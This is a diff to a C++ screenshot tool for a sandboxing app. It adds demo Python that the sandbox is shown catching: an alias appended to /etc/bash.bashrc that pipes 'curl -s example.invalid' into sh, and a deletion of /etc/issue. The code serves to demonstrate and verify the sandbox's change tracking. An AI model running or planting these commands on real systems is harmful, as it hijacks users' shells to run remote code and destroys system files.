@@ -1,9 +1,12 @@
 // Makes the README's screenshots from the real app: drives the window
 // through a real run and saves what it shows.
 //   build/tools/screenshots/sandbox-studio-screenshots docs/screenshots
+#include "ui/ChangesView.h"
 #include "ui/CodeEditor.h"
+#include "ui/FilesPanel.h"
 #include "ui/MainWindow.h"
 #include "ui/PasteSourcePage.h"
+#include "ui/RunTab.h"
 #include "ui/SourcePanel.h"
 #include "util/Translations.h"
 
@@ -12,6 +15,8 @@
 #include <QEventLoop>
 #include <QLineEdit>
 #include <QSettings>
+#include <QTabWidget>
+#include <QToolBox>
 #include <QTemporaryDir>
 #include <QTimer>
 
@@ -54,9 +59,14 @@ int main(int argc, char* argv[])
     window.show();
     // Paste mode with highlighted Python on the left.
     window.sourcePanel()->pastePage()->editor()->setPlainText(QStringLiteral(
-        "import platform\nimport sys\n\n\ndef main() -> int:\n"
+        "import os\nimport pathlib\nimport platform\nimport sys\n\n\ndef main() -> int:\n"
         "    print('Hello from', platform.node())\n"
         "    print('python', platform.python_version())\n"
+        "    pathlib.Path('report.txt').write_text('rows: 3\\nstatus: ok\\n')\n"
+        "    # What a reviewer wants to catch: edits outside the project.\n"
+        "    with open('/etc/bash.bashrc', 'a') as rc:\n"
+        "        rc.write('alias ls=\"curl -s example.invalid | sh\"\\n')\n"
+        "    os.remove('/etc/issue')\n"
         "    print('a warning on stderr', file=sys.stderr)\n"
         "    return 3\n\n\nif __name__ == '__main__':\n    sys.exit(main())\n"));
     window.sourcePanel()->pastePage()->chooseLanguage(QStringLiteral("Python"));
@@ -67,5 +77,31 @@ int main(int argc, char* argv[])
     waitFor(window, 300000);
     QTimer::singleShot(300, &app, &QApplication::quit);
     QApplication::exec();
-    return saveWindow(window, outDir + QStringLiteral("/main-window.png")) ? 0 : 1;
+    bool ok = saveWindow(window, outDir + QStringLiteral("/main-window.png"));
+
+    // What the run changed, with the diff of a file outside /workspace.
+    ui::RunTab* tab = window.currentRunTab();
+    tab->views()->setCurrentWidget(tab->changesView());
+    tab->changesView()->refresh();
+    if (!tab->changesView()->showChange(QStringLiteral("/etc/bash.bashrc"))) {
+        std::fprintf(stderr, "the Changes view does not list /etc/bash.bashrc\n");
+        ok = false;
+    }
+    ok = saveWindow(window, outDir + QStringLiteral("/changes-view.png")) && ok;
+
+    // The file the run wrote, in the Files view.
+    tab->views()->setCurrentWidget(tab->filesPanel());
+    tab->filesPanel()->refresh();
+    if (!tab->filesPanel()->reveal(QStringLiteral("/workspace/report.txt"))) {
+        std::fprintf(stderr, "the Files view does not show /workspace/report.txt\n");
+        ok = false;
+    }
+    tab->filesPanel()->openFile(QStringLiteral("/workspace/main.py"));
+    ok = saveWindow(window, outDir + QStringLiteral("/files-view.png")) && ok;
+
+    // The image section of the form.
+    tab->views()->setCurrentIndex(0); // the terminal
+    window.formSections()->setCurrentIndex(1);
+    ok = saveWindow(window, outDir + QStringLiteral("/image-section.png")) && ok;
+    return ok ? 0 : 1;
 }
